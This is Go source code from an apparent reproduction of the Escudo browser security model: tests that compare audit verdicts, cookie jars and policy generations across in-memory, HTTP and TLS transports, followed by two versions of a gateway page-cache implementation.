		}
		tp, err := b.Navigate(forumO.URL(fmt.Sprintf("/viewtopic?t=%d", topic)))
		if err != nil {
			t.Fatalf("viewtopic: %v", err)
		}
		if i == 1 {
			reply := tp.Doc.ByID("replyform")
			if reply == nil {
				t.Fatal("no replyform")
			}
			if _, err := tp.SubmitForm(reply, url.Values{"message": {"equivalence probe"}}); err != nil {
				t.Fatalf("reply: %v", err)
			}
		}
	}
}

// auditTally folds an audit log into a comparable multiset: decision
// counts keyed by (op, allowed, rule).
func auditTally(b *browser.Browser) map[string]int {
	tally := map[string]int{}
	for _, d := range b.Audit.All() {
		tally[fmt.Sprintf("%s|%v|%s", d.Op, d.Allowed, d.Rule)]++
	}
	return tally
}

// TestTransportEquivalence is the PR's core invariant: the same
// session over the in-memory network and over a real HTTP gateway
// produces identical Escudo verdicts and audit-log decision counts.
func TestTransportEquivalence(t *testing.T) {
	memNet, bench, forumO, topic := buildSubstrate()
	memBrowser := runFixedSession(t, memNet, bench, forumO, topic)

	httpNet, hBench, hForumO, hTopic := buildSubstrate()
	g := startGateway(t, httpNet, Config{})
	ct := NewClientTransport(g.Addr())
	defer ct.Close()
	httpBrowser := runFixedSession(t, ct, hBench, hForumO, hTopic)

	memDecisions, httpDecisions := memBrowser.Audit.Len(), httpBrowser.Audit.Len()
	if memDecisions == 0 {
		t.Fatal("in-memory session recorded no decisions; workload broken")
	}
	if memDecisions != httpDecisions {
		t.Fatalf("decision counts diverge: in-memory %d, http %d", memDecisions, httpDecisions)
	}
	memTally, httpTally := auditTally(memBrowser), auditTally(httpBrowser)
	if !reflect.DeepEqual(memTally, httpTally) {
		t.Fatalf("audit tallies diverge:\n  in-memory: %v\n  http:      %v", memTally, httpTally)
	}
	if mem, http := len(memBrowser.Audit.Denials()), len(httpBrowser.Audit.Denials()); mem != http {
		t.Fatalf("denial counts diverge: in-memory %d, http %d", mem, http)
	}

	// The cookie jars must agree exactly too — labels, attributes,
	// values (the transports carried identical Set-Cookie streams).
	memJar, httpJar := memBrowser.Jar().All(), httpBrowser.Jar().All()
	if !reflect.DeepEqual(memJar, httpJar) {
		t.Fatalf("jars diverge:\n  in-memory: %+v\n  http:      %+v", memJar, httpJar)
	}
}

// TestTLSTransportEquivalence extends the PR 3 invariant to https:
// the same fixed session over the in-memory network, over a plain
// HTTP gateway, and over a TLS-terminating gateway yields identical
// verdicts, audit decision counts and tallies, and cookie jars. TLS
// is pure transport; if it ever changed a verdict, this test is the
// tripwire.
func TestTLSTransportEquivalence(t *testing.T) {
	memNet, bench, forumO, topic := buildSubstrate()
	memBrowser := runFixedSession(t, memNet, bench, forumO, topic)

	plainNet, pBench, pForumO, pTopic := buildSubstrate()
	pg := startGateway(t, plainNet, Config{})
	plainCT := NewClientTransport(pg.Addr())
	defer plainCT.Close()
	plainBrowser := runFixedSession(t, plainCT, pBench, pForumO, pTopic)

	// The default TLS transport negotiates HTTP/2 via ALPN; the H1
	// variant pins the same gateway protocol family to HTTP/1.1. Both
	// are full legs of the equivalence check, so a protocol upgrade can
	// never silently change a verdict.
	tlsNet, tBench, tForumO, tTopic := buildSubstrate()
	tg, ca := startGatewayTLS(t, tlsNet, Config{})
	tlsCT := NewClientTransportTLS(tg.Addr(), ca.Pool())
	defer tlsCT.Close()
	tlsBrowser := runFixedSession(t, tlsCT, tBench, tForumO, tTopic)

	h1Net, oBench, oForumO, oTopic := buildSubstrate()
	og, oca := startGatewayTLS(t, h1Net, Config{})
	h1CT := NewClientTransportTLSH1(og.Addr(), oca.Pool())
	defer h1CT.Close()
	h1Browser := runFixedSession(t, h1CT, oBench, oForumO, oTopic)

	if st := tlsCT.Stats(); st.H2Requests == 0 || st.Proto() != "h2" {
		t.Fatalf("default TLS transport did not negotiate h2: %d/%d h2 requests (proto %q)",
			st.H2Requests, st.Requests, st.Proto())
	}
	if st := h1CT.Stats(); st.H2Requests != 0 || st.Proto() != "h1" {
		t.Fatalf("forced-h1 TLS transport spoke h2: %d h2 requests (proto %q)", st.H2Requests, st.Proto())
	}

	mem := memBrowser.Audit.Len()
	if mem == 0 {
		t.Fatal("in-memory session recorded no decisions; workload broken")
	}
	legs := map[string]*browser.Browser{
		"plain http": plainBrowser,
		"tls h2":     tlsBrowser,
		"tls h1":     h1Browser,
	}
	memTally := auditTally(memBrowser)
	memJar := memBrowser.Jar().All()
	for name, b := range legs {
		if got := b.Audit.Len(); got != mem {
			t.Fatalf("%s decision count diverges: in-memory %d, %s %d", name, mem, name, got)
		}
		if got := auditTally(b); !reflect.DeepEqual(memTally, got) {
			t.Fatalf("%s audit tally diverges:\n  in-memory: %v\n  %s: %v", name, memTally, name, got)
		}
		if m, g := len(memBrowser.Audit.Denials()), len(b.Audit.Denials()); m != g {
			t.Fatalf("%s denial count diverges: in-memory %d, %s %d", name, m, name, g)
		}
		if got := b.Jar().All(); !reflect.DeepEqual(memJar, got) {
			t.Fatalf("%s jar diverges:\n  in-memory: %+v\n  %s: %+v", name, memJar, name, got)
		}
	}
}

// tlsGatewayWrapper runs each attack environment's network behind its
// own TLS-terminating loopback gateway, all leafs minted by one CA.
// forceH1 pins the client side to HTTP/1.1 (the default negotiates h2
// via ALPN), so both protocol generations cover the corpus.
func tlsGatewayWrapper(t *testing.T, forceH1 bool) attack.TransportWrapper {
	t.Helper()
	ca, err := NewCA()
	if err != nil {
		t.Fatalf("NewCA: %v", err)
	}
	return func(n *web.Network) (web.Transport, func(), error) {
		g, ct, cleanup, err := WrapNetwork(n, Config{TLS: ca}, "127.0.0.1:0")
		if err != nil {
			return nil, nil, err
		}
		if !forceH1 {
			return ct, cleanup, nil
		}
		h1 := NewClientTransportTLSH1(g.Addr(), ca.Pool())
		return h1, func() {
			h1.Close()
			cleanup()
		}, nil
	}
}

// TestAttackCorpusOverTLS replays the §6.4 corpus through
// TLS-terminating gateways under Escudo — once over h2 (the default
// ALPN outcome), once pinned to HTTP/1.1 — and demands in-memory
// verdicts both times: 18/18 neutralized, none created or lost by the
// https hop or the protocol generation.
func TestAttackCorpusOverTLS(t *testing.T) {
	for _, leg := range []struct {
		name    string
		forceH1 bool
	}{{"h2", false}, {"h1", true}} {
		leg := leg
		t.Run(leg.name, func(t *testing.T) {
			wrap := tlsGatewayWrapper(t, leg.forceH1)
			neutralized := 0
			for _, atk := range attack.Corpus() {
				mem := attack.RunOne(atk, browser.ModeEscudo)
				if mem.Err != nil {
					t.Fatalf("%s in-memory: %v", atk.Name, mem.Err)
				}
				overTLS := attack.RunOneOver(atk, browser.ModeEscudo, nil, wrap)
				if overTLS.Err != nil {
					t.Fatalf("%s over TLS: %v", atk.Name, overTLS.Err)
				}
				if mem.Succeeded != overTLS.Succeeded {
					t.Errorf("%s verdict diverges: in-memory succeeded=%v, tls succeeded=%v",
						atk.Name, mem.Succeeded, overTLS.Succeeded)
				}
				if overTLS.Neutralized() {
					neutralized++
				}
			}
			if neutralized != len(attack.Corpus()) {
				t.Errorf("Escudo over TLS (%s) neutralized %d/%d", leg.name, neutralized, len(attack.Corpus()))
			}
		})
	}
}

// TestCookieFidelityAcrossBoundary pins the Set-Cookie round trip
// byte-for-byte: attributes (Path, HttpOnly) and Escudo ring
// annotations must land in the jar identically whether the response
// crossed a socket or not.
func TestCookieFidelityAcrossBoundary(t *testing.T) {
	build := func() (*web.Network, origin.Origin) {
		n := web.NewNetwork()
		o := origin.MustParse("http://cookies.example")
		n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
			resp := web.HTML("<html><body>cookies</body></html>")
			resp.Header.Set(core.HeaderMaxRing, "3")
			resp.Header.Add(core.HeaderCookie, core.FormatCookieHeader(core.CookieConfig{
				Name: "sess", Ring: 1, ACL: core.UniformACL(1),
			}))
			resp.Header.Add(core.HeaderCookie, core.FormatCookieHeader(core.CookieConfig{
				Name: "prefs", Ring: 3, ACL: core.UniformACL(3),
			}))
			resp.Header.Add("Set-Cookie", "sess=deadbeef; Path=/; HttpOnly")
			resp.Header.Add("Set-Cookie", "prefs=dark; Path=/settings")
			resp.Header.Add("Set-Cookie", "plain=1")
			return resp
		}))
		return n, o
	}

	memNet, memO := build()
	memB := browser.New(memNet, browser.Options{Mode: browser.ModeEscudo})
	if _, err := memB.Navigate(memO.URL("/")); err != nil {
		t.Fatalf("in-memory navigate: %v", err)
	}

	httpNet, httpO := build()
	g := startGateway(t, httpNet, Config{})
	ct := NewClientTransport(g.Addr())
	defer ct.Close()
	httpB := browser.New(ct, browser.Options{Mode: browser.ModeEscudo})
	if _, err := httpB.Navigate(httpO.URL("/")); err != nil {
		t.Fatalf("http navigate: %v", err)
	}

	memJar, httpJar := memB.Jar().All(), httpB.Jar().All()
	if len(memJar) != 3 {
		t.Fatalf("in-memory jar has %d cookies, want 3", len(memJar))
	}
	if !reflect.DeepEqual(memJar, httpJar) {
		t.Fatalf("jar state diverges across the HTTP boundary:\n  in-memory: %+v\n  http:      %+v", memJar, httpJar)
	}
	// Spot-check the attributes the round trip must not flatten.
	for _, c := range httpJar {
		switch c.Name {
		case "sess":
			if !c.HTTPOnly || c.Path != "/" || c.Ring != 1 {
				t.Fatalf("sess cookie mangled: %+v", c)
			}
		case "prefs":
			if c.Path != "/settings" || c.Ring != 3 {
				t.Fatalf("prefs cookie mangled: %+v", c)
			}
		case "plain":
			if c.Ring != 0 {
				t.Fatalf("plain cookie mangled: %+v", c)
			}
		}
	}
}

// gatewayWrapper runs each attack environment's network behind its
// own loopback gateway.
func gatewayWrapper() attack.TransportWrapper {
	return func(n *web.Network) (web.Transport, func(), error) {
		_, ct, cleanup, err := WrapNetwork(n, Config{}, "127.0.0.1:0")
		if err != nil {
			return nil, nil, err
		}
		return ct, cleanup, nil
	}
}

// TestAttackCorpusOverSockets replays the full §6.4 corpus through a
// real gateway in both modes and demands verdicts identical to the
// in-memory replay: all 18 neutralized under Escudo, and the SOP
// verdicts unchanged too (the gateway must not accidentally defend).
func TestAttackCorpusOverSockets(t *testing.T) {
	for _, mode := range []browser.Mode{browser.ModeEscudo, browser.ModeSOP} {
		mode := mode
		t.Run(mode.String(), func(t *testing.T) {
			neutralized := 0
			for _, atk := range attack.Corpus() {
				mem := attack.RunOne(atk, mode)
				if mem.Err != nil {
					t.Fatalf("%s in-memory: %v", atk.Name, mem.Err)
				}
				overHTTP := attack.RunOneOver(atk, mode, nil, gatewayWrapper())
				if overHTTP.Err != nil {
					t.Fatalf("%s over sockets: %v", atk.Name, overHTTP.Err)
				}
				if mem.Succeeded != overHTTP.Succeeded {
					t.Errorf("%s verdict diverges: in-memory succeeded=%v, sockets succeeded=%v",
						atk.Name, mem.Succeeded, overHTTP.Succeeded)
				}
				if overHTTP.Neutralized() {
					neutralized++
				}
			}
			if mode == browser.ModeEscudo && neutralized != len(attack.Corpus()) {
				t.Errorf("Escudo over sockets neutralized %d/%d", neutralized, len(attack.Corpus()))
			}
		})
	}
}

// TestGenerationIsolationEquivalence extends the transport-
// independence invariant to the control plane: a policy version push
// lands mid-session on every leg — the in-memory store, a plain
// gateway, a TLS/h2 gateway, and a TLS/h1 gateway — and each leg must
// produce the identical verdict sequence with zero mixed-generation
// pages (standing invariant 8: a page load observes exactly one
// policy generation, whatever the transport).
func TestGenerationIsolationEquivalence(t *testing.T) {
	type leg struct {
		name string
		b    *browser.Browser
	}
	var legs []leg

	// The post-flip half re-browses the whole substrate on the already
	// logged-in session (driveFixedWorkload's login form is gone once
	// the session is established).
	drivePostFlip := func(t *testing.T, b *browser.Browser, bench, forumO origin.Origin, topic int) {
		t.Helper()
		for _, path := range scenarios.Paths() {
			if _, err := b.Navigate(bench.URL(path)); err != nil {
				t.Fatalf("post-flip navigate %s: %v", path, err)
			}
		}
		for i := 0; i < 2; i++ {
			if _, err := b.Navigate(forumO.URL("/")); err != nil {
				t.Fatalf("post-flip forum browse: %v", err)
			}
			if _, err := b.Navigate(forumO.URL(fmt.Sprintf("/viewtopic?t=%d", topic))); err != nil {
				t.Fatalf("post-flip viewtopic: %v", err)
			}
		}
	}

	// Leg 1: in-memory deployment pinning generations straight off a
	// local store.
	{
		n, bench, forumO, topic := buildSubstrate()
		store := ctlplane.NewStore()
		doc := scenarios.Policy(bench)
		if _, _, err := store.Set(doc); err != nil {
			t.Fatalf("seed store: %v", err)
		}
		b := browser.New(n, browser.Options{Mode: browser.ModeEscudo, PolicyGen: store.Generation})
		driveFixedWorkload(t, b, bench, forumO, topic)
		// The version push: same document content (the flip must not
		// change verdicts), new generation.
		if _, _, err := store.Set(doc); err != nil {
			t.Fatalf("flip store: %v", err)
		}
		drivePostFlip(t, b, bench, forumO, topic)
		legs = append(legs, leg{"memory", b})
	}

	// Gateway legs: the generation travels the admin plane — a watcher
	// long-polls /policyz and the flip arrives via POST /policyz/reload.
	runGatewayLeg := func(name string, withTLS, forceH1 bool) {
		n, bench, forumO, topic := buildSubstrate()
		doc := scenarios.Policy(bench)
		cfg := Config{Origins: map[string]OriginConfig{bench.String(): {Policy: &doc}}}
		var (
			transport web.Transport
			addr      string
			client    *http.Client
			scheme    = "http"
		)
		if withTLS {
			g, ca := startGatewayTLS(t, n, cfg)
			addr, scheme = g.Addr(), "https"
			client = &http.Client{
				Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: ca.Pool(), MinVersion: tls.VersionTLS12}},
				Timeout:   15 * time.Second,
			}
			if forceH1 {
				ct := NewClientTransportTLSH1(addr, ca.Pool())
				defer ct.Close()
				transport = ct
			} else {
				ct := NewClientTransportTLS(addr, ca.Pool())
				defer ct.Close()
				transport = ct
			}
		} else {
			g := startGateway(t, n, cfg)
			addr = g.Addr()
			ct := NewClientTransport(addr)
			defer ct.Close()
			transport = ct
		}

		w := ctlplane.NewWatcher(ctlplane.WatcherConfig{
			Addr: addr, Scheme: scheme, Client: client,
			HoldFor: 2 * time.Second, PollInterval: 10 * time.Millisecond,
		})
		if err := w.Start(context.Background()); err != nil {
			t.Fatalf("%s: watcher start: %v", name, err)
		}
		defer w.Stop()

		b := browser.New(transport, browser.Options{Mode: browser.ModeEscudo, PolicyGen: w.Generation})
		driveFixedWorkload(t, b, bench, forumO, topic)

		data, err := json.Marshal(doc)
		if err != nil {
			t.Fatalf("%s: marshal: %v", name, err)
		}
		res, err := ctlplane.PostReload(context.Background(), client, scheme, addr, data)
		if err != nil {
			t.Fatalf("%s: reload: %v", name, err)
		}
		deadline := time.Now().Add(10 * time.Second)
		for w.Generation() < res.Generation {
			if time.Now().After(deadline) {
				t.Fatalf("%s: watcher never observed generation %d", name, res.Generation)
			}
			time.Sleep(5 * time.Millisecond)
		}
		drivePostFlip(t, b, bench, forumO, topic)
		legs = append(legs, leg{name, b})
	}
	runGatewayLeg("plain http", false, false)
	runGatewayLeg("tls h2", true, false)
	runGatewayLeg("tls h1", true, true)

	// Verdict sequences are identical across every leg...
	ref := legs[0]
	refLen, refTally := ref.b.Audit.Len(), auditTally(ref.b)
	if refLen == 0 {
		t.Fatal("reference leg recorded no decisions; workload broken")
	}
	for _, l := range legs[1:] {
		if got := l.b.Audit.Len(); got != refLen {
			t.Fatalf("%s decision count diverges across the flip: %s %d, %s %d", l.name, ref.name, refLen, l.name, got)
		}
		if got := auditTally(l.b); !reflect.DeepEqual(refTally, got) {
			t.Fatalf("%s audit tally diverges:\n  %s: %v\n  %s: %v", l.name, ref.name, refTally, l.name, got)
		}
	}
	// ...and no leg let a page load straddle the flip: pages ran under
	// both generations, none under two at once.
	for _, l := range legs {
		mix := l.b.Audit.GenerationMix()
		if mix.Pages == 0 {
			t.Fatalf("%s: no page-pinned decisions recorded", l.name)
		}
		if mix.Generations != 2 {
			t.Fatalf("%s: pages ran under %d generations, want both sides of the flip", l.name, mix.Generations)
		}
		if mix.Mixed != 0 {
			t.Fatalf("%s: %d page loads mixed generations", l.name, mix.Mixed)
		}
	}
}

// buildPortalSubstrate assembles a deterministic mashup substrate: a
// portal host page (ring-1 chrome, ring-2 slot) and a widget origin.
func buildPortalSubstrate() (*web.Network, origin.Origin, origin.Origin) {
	n := web.NewNetwork()
	portal := origin.MustParse("http://portal.example")
	widget := origin.MustParse("http://widget.example")
	n.Register(portal, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<html><body>` +
			`<div ring=1 r=1 w=1 x=1 id=chrome><h1 id=title>Portal</h1></div>` +
			`<div ring=2 r=2 w=2 x=2 id=slot>loading</div>` +
			`</body></html>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	n.Register(widget, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML(`<html><body><p id=w>widget</p></body></html>`)
	}))
	return n, portal, widget
}

// runDelegatedSession drives one deterministic §7 session over the
// given transport: the MashupMonitor is mounted through
// browser.Options.MonitorFactory, the delegated widget renders into
// its slot, overreaches into ring-1 chrome (denied), and an
// undelegated rogue origin is denied by the origin rule. It returns
// the browser and the three verdict outcomes.
func runDelegatedSession(t *testing.T, transport web.Transport, portal, widget origin.Origin) (*browser.Browser, [3]bool) {
	t.Helper()
	pol := mashup.NewPolicy()
	pol.Delegate(mashup.Delegation{Host: portal, Guest: widget, Floor: 2})
	b := browser.New(transport, browser.Options{
		Mode: browser.ModeEscudo,
		MonitorFactory: func(browser.PageRef) core.Monitor {
			return &mashup.Monitor{Policy: pol}
		},
	})
	p, err := b.Navigate(portal.URL("/"))
	if err != nil {
		t.Fatalf("portal navigate: %v", err)
	}
	var verdicts [3]bool
	verdicts[0] = p.RunScriptAs(core.Principal(widget, 0, "widget"),
		`document.getElementById("slot").innerHTML = "<p id=forecast>Sunny</p>";`) == nil
	verdicts[1] = p.RunScriptAs(core.Principal(widget, 0, "widget"),
		`document.getElementById("title").innerHTML = "pwned";`) == nil
	verdicts[2] = p.RunScriptAs(core.Principal(origin.MustParse("http://rogue.example"), 0, "rogue"),
		`var x = document.getElementById("slot").innerHTML;`) == nil
	return b, verdicts
}

// TestDelegationTransportEquivalence extends the transport-
// independence invariant to the §7 delegation model: the same
// delegated mashup session over the in-memory network and over a real
// HTTP gateway yields identical verdicts and audit decision counts.
func TestDelegationTransportEquivalence(t *testing.T) {
	memNet, memPortal, memWidget := buildPortalSubstrate()
	memB, memVerdicts := runDelegatedSession(t, memNet, memPortal, memWidget)

	httpNet, hPortal, hWidget := buildPortalSubstrate()
	g := startGateway(t, httpNet, Config{})
	ct := NewClientTransport(g.Addr())
	defer ct.Close()
	httpB, httpVerdicts := runDelegatedSession(t, ct, hPortal, hWidget)

	if memVerdicts != [3]bool{true, false, false} {
		t.Fatalf("in-memory verdicts = %v, want slot allowed, chrome and rogue denied", memVerdicts)
	}
	if memVerdicts != httpVerdicts {
		t.Fatalf("verdicts diverge: in-memory %v, http %v", memVerdicts, httpVerdicts)
	}
	if mem, http := memB.Audit.Len(), httpB.Audit.Len(); mem == 0 || mem != http {
		t.Fatalf("audit decision counts diverge: in-memory %d, http %d", mem, http)
	}
	memTally, httpTally := auditTally(memB), auditTally(httpB)
	if !reflect.DeepEqual(memTally, httpTally) {
		t.Fatalf("audit tallies diverge:\n  in-memory: %v\n  http:      %v", memTally, httpTally)
	}
	if mem, http := len(memB.Audit.Denials()), len(httpB.Audit.Denials()); mem == 0 || mem != http {
		t.Fatalf("denial counts diverge: in-memory %d, http %d", mem, http)
	}
}
