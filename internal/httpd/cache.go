package httpd

import (
	"container/list"
	"fmt"
	"hash/fnv"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"repro/internal/web"
)

// CacheControlImmutable is the Cache-Control directive a handler sets
// to opt a response into the gateway's cross-request page cache. Only
// handlers whose bodies are genuinely immutable for a given (path,
// query, cookie set) — the scenario and portal fixtures — set it; the
// protected applications never do, so mediated application traffic is
// never served from cache.
const CacheControlImmutable = "immutable"

// pageKey identifies one cacheable page variant. Origin, path, and
// query are the natural key; the sorted cookie-name set is included
// because some fixture handlers vary only their Set-Cookie side effect
// on it (the scenario handler establishes the session cookie for
// cookieless visitors), and serving a cookie-carrying variant to a
// cookieless client would skip session establishment.
type pageKey struct {
	host    string
	path    string
	query   string
	cookies string
}

// cachedPage is one stored response: the immutable body, the headers
// it arrived with, the strong validator the gateway advertises, and
// the precomputed X-Escudo-Orig-Keys value (the header set of an
// immutable entry never changes, so the hit path need not rebuild it).
//
// Everything in a cachedPage is frozen at fill time and shared by
// every hit: the body is written straight from the byte slice, and
// the header value slices (including the single-element etagVal and
// origKeysVal) are installed into the ResponseWriter's header map by
// reference. Nothing on the hit path may append to or mutate them —
// that immutability is what makes a cache hit allocation-free apart
// from net/http's own response plumbing.
type cachedPage struct {
	status   int
	header   web.Header
	body     []byte
	etag     string
	origKeys string

	// Precomputed single-value slices for the hit path's direct
	// header-map installs.
	etagVal    []string
	origKeyVal []string
}

// size approximates the entry's memory footprint for the byte bound.
func (p *cachedPage) size() int64 {
	n := int64(len(p.body) + len(p.etag) + len(p.origKeys))
	for k, vs := range p.header {
		n += int64(len(k))
		for _, v := range vs {
			n += int64(len(v))
		}
	}
	return n
}

// CacheStats counts page-cache traffic. Hits include 304
// revalidations. Misses count cold fills only — a cacheable page the
// handler had to build — so uncacheable application traffic (which is
// most of a mixed workload) does not drag the hit rate down; the rate
// answers "of the pages this cache could serve, how many did it?".
// Evictions counts entries displaced by the LRU bound; Bytes is the
// current approximate resident size.
type CacheStats struct {
	Hits        uint64 `json:"hits"`
	Misses      uint64 `json:"misses"`
	NotModified uint64 `json:"not_modified"`
	Entries     int    `json:"entries"`
	Evictions   uint64 `json:"evictions"`
	Bytes       int64  `json:"bytes"`
}

// HitRate returns hits/(hits+misses), or 0 for an untouched cache.
func (s CacheStats) HitRate() float64 {
	total := s.Hits + s.Misses
	if total == 0 {
		return 0
	}
	return float64(s.Hits) / float64(total)
}

// Add sums two snapshots (aggregating several gateways' caches).
func (s CacheStats) Add(o CacheStats) CacheStats {
	return CacheStats{
		Hits:        s.Hits + o.Hits,
		Misses:      s.Misses + o.Misses,
		NotModified: s.NotModified + o.NotModified,
		Entries:     s.Entries + o.Entries,
		Evictions:   s.Evictions + o.Evictions,
		Bytes:       s.Bytes + o.Bytes,
	}
}

// Sub returns the counter delta s-base (Entries and Bytes stay
// absolute).
func (s CacheStats) Sub(base CacheStats) CacheStats {
	return CacheStats{
		Hits:        s.Hits - base.Hits,
		Misses:      s.Misses - base.Misses,
		NotModified: s.NotModified - base.NotModified,
		Entries:     s.Entries,
		Evictions:   s.Evictions - base.Evictions,
		Bytes:       s.Bytes,
	}
}

// Default cache bounds. The key includes the client-controlled query
// string, so without bounds a remote client could grow gateway memory
// one query variant at a time. The fixture sets this cache exists for
// are tiny; the bounds are a working-set limit for hostile or merely
// large key populations, enforced by LRU eviction (new variants
// displace the coldest entries instead of being refused).
const (
	defaultCacheMaxEntries = 4096
	defaultCacheMaxBytes   = 32 << 20
)

// pageCache is the gateway's cross-request cache for immutable bodies:
// a strict-LRU bounded map. One mutex guards the map and the recency
// list; the critical sections are a handful of pointer moves, which is
// noise next to the socket round trip on either side of them.
type pageCache struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	entries    map[pageKey]*list.Element
	lru        *list.List // front = most recently used

	hits        atomic.Uint64
	misses      atomic.Uint64
	notModified atomic.Uint64
	evictions   atomic.Uint64
}

// lruEntry is one recency-list node.
type lruEntry struct {
	key  pageKey
	page *cachedPage
	size int64
}

func newPageCache(maxEntries int, maxBytes int64) *pageCache {
	if maxEntries <= 0 {
		maxEntries = defaultCacheMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = defaultCacheMaxBytes
	}
	return &pageCache{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		entries:    map[pageKey]*list.Element{},
		lru:        list.New(),
	}
}

// cookieKey canonicalizes the request's cookie-name set.
func cookieKey(req *web.Request) string {
	cookies := req.Cookies()
	if len(cookies) == 0 {
		return ""
	}
	names := make([]string, 0, len(cookies))
	for name := range cookies {
		names = append(names, name)
	}
	sort.Strings(names)
	return strings.Join(names, ";")
}

// get returns the cached page for the request, if any, refreshing its
// recency. Only GETs are probed; the gateway never caches mutations. A
// hit is counted here; a miss is counted only when the handler's
// response turns out cacheable (the store site), so probes for
// uncacheable pages don't pollute the hit rate.
func (c *pageCache) get(key pageKey) (*cachedPage, bool) {
	var page *cachedPage
	c.mu.Lock()
	if el, ok := c.entries[key]; ok {
		c.lru.MoveToFront(el)
		// Read the page pointer under the lock: put mutates the entry
		// in place when a concurrent cold fill races a hit.
		page = el.Value.(*lruEntry).page
	}
	c.mu.Unlock()
	if page == nil {
		return nil, false
	}
	c.hits.Add(1)
	return page, true
}

// cacheable reports whether a response may be stored: a form-free 200
// GET that the handler explicitly marked immutable and that carries no
// Set-Cookie (a response that establishes state is not a pure function
// of its key; a request carrying form fields is not pure either —
// GET-form submissions must always reach the server and its log).
func cacheable(req *web.Request, resp *web.Response) bool {
	if req.Method != "GET" || len(req.Form) > 0 || resp.Status != 200 {
		return false
	}
	if len(resp.Header.Values("Set-Cookie")) > 0 {
		return false
	}
	return strings.Contains(strings.ToLower(resp.Header.Get("Cache-Control")), CacheControlImmutable)
}

// put stores a response under key and returns the entry's ETag, or ""
// when the entry alone exceeds the byte bound and is declined. The
// response headers are cloned so later per-request mutation cannot
// corrupt the shared entry. Inserting past the entry or byte bound
// evicts from the cold end of the LRU list.
func (c *pageCache) put(key pageKey, resp *web.Response) string {
	h := fnv.New64a()
	h.Write([]byte(resp.Body))
	page := &cachedPage{
		status:   resp.Status,
		header:   resp.Header.Clone(),
		body:     []byte(resp.Body),
		etag:     fmt.Sprintf("\"%016x\"", h.Sum64()),
		origKeys: origKeysValue(resp.Header),
	}
	page.etagVal = []string{page.etag}
	page.origKeyVal = []string{page.origKeys}
	size := page.size()
	if size > c.maxBytes {
		return ""
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, exists := c.entries[key]; exists {
		old := el.Value.(*lruEntry)
		c.bytes += size - old.size
		old.page, old.size = page, size
		c.lru.MoveToFront(el)
	} else {
		c.entries[key] = c.lru.PushFront(&lruEntry{key: key, page: page, size: size})
		c.bytes += size
	}
	for (c.lru.Len() > c.maxEntries || c.bytes > c.maxBytes) && c.lru.Len() > 1 {
		cold := c.lru.Back()
		e := cold.Value.(*lruEntry)
		c.lru.Remove(cold)
		delete(c.entries, e.key)
		c.bytes -= e.size
		c.evictions.Add(1)
	}
	return page.etag
}

// stats snapshots the counters.
func (c *pageCache) stats() CacheStats {
	c.mu.Lock()
	entries := c.lru.Len()
	bytes := c.bytes
	c.mu.Unlock()
	return CacheStats{
		Hits:        c.hits.Load(),
		Misses:      c.misses.Load(),
		NotModified: c.notModified.Load(),
		Entries:     entries,
		Evictions:   c.evictions.Load(),
		Bytes:       bytes,
	}
}
