package httpd

import (
	"fmt"
	"hash/fnv"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"repro/internal/web"
)

// CacheControlImmutable is the Cache-Control directive a handler sets
// to opt a response into the gateway's cross-request page cache. Only
// handlers whose bodies are genuinely immutable for a given (path,
// query, cookie set) — the scenario and portal fixtures — set it; the
// protected applications never do, so mediated application traffic is
// never served from cache.
const CacheControlImmutable = "immutable"

// pageKey identifies one cacheable page variant. Origin, path, and
// query are the natural key; the sorted cookie-name set is included
// because some fixture handlers vary only their Set-Cookie side effect
// on it (the scenario handler establishes the session cookie for
// cookieless visitors), and serving a cookie-carrying variant to a
// cookieless client would skip session establishment.
type pageKey struct {
	host    string
	path    string
	query   string
	cookies string
}

// cachedPage is one stored response: the immutable body, the headers
// it arrived with, the strong validator the gateway advertises, and
// the precomputed X-Escudo-Orig-Keys value (the header set of an
// immutable entry never changes, so the hit path need not rebuild it).
type cachedPage struct {
	status   int
	header   web.Header
	body     string
	etag     string
	origKeys string
}

// CacheStats counts page-cache traffic. Hits include 304
// revalidations. Misses count cold fills only — a cacheable page the
// handler had to build — so uncacheable application traffic (which is
// most of a mixed workload) does not drag the hit rate down; the rate
// answers "of the pages this cache could serve, how many did it?".
type CacheStats struct {
	Hits        uint64 `json:"hits"`
	Misses      uint64 `json:"misses"`
	NotModified uint64 `json:"not_modified"`
	Entries     int    `json:"entries"`
}

// HitRate returns hits/(hits+misses), or 0 for an untouched cache.
func (s CacheStats) HitRate() float64 {
	total := s.Hits + s.Misses
	if total == 0 {
		return 0
	}
	return float64(s.Hits) / float64(total)
}

// Add sums two snapshots (aggregating several gateways' caches).
func (s CacheStats) Add(o CacheStats) CacheStats {
	return CacheStats{
		Hits:        s.Hits + o.Hits,
		Misses:      s.Misses + o.Misses,
		NotModified: s.NotModified + o.NotModified,
		Entries:     s.Entries + o.Entries,
	}
}

// Sub returns the counter delta s-base (Entries stays absolute).
func (s CacheStats) Sub(base CacheStats) CacheStats {
	return CacheStats{
		Hits:        s.Hits - base.Hits,
		Misses:      s.Misses - base.Misses,
		NotModified: s.NotModified - base.NotModified,
		Entries:     s.Entries,
	}
}

// maxCachedPages bounds the cache: the key includes the
// client-controlled query string, so without a cap a remote client
// could grow gateway memory one query variant at a time. The fixture
// sets this cache exists for are tiny; when the cap is reached, new
// variants are simply not stored (existing hot entries keep serving).
const maxCachedPages = 4096

// pageCache is the gateway's cross-request cache for immutable bodies.
// Lookups vastly outnumber stores once warm, so reads share an RWMutex
// read lock.
type pageCache struct {
	mu    sync.RWMutex
	pages map[pageKey]*cachedPage

	hits        atomic.Uint64
	misses      atomic.Uint64
	notModified atomic.Uint64
}

func newPageCache() *pageCache {
	return &pageCache{pages: map[pageKey]*cachedPage{}}
}

// cookieKey canonicalizes the request's cookie-name set.
func cookieKey(req *web.Request) string {
	cookies := req.Cookies()
	if len(cookies) == 0 {
		return ""
	}
	names := make([]string, 0, len(cookies))
	for name := range cookies {
		names = append(names, name)
	}
	sort.Strings(names)
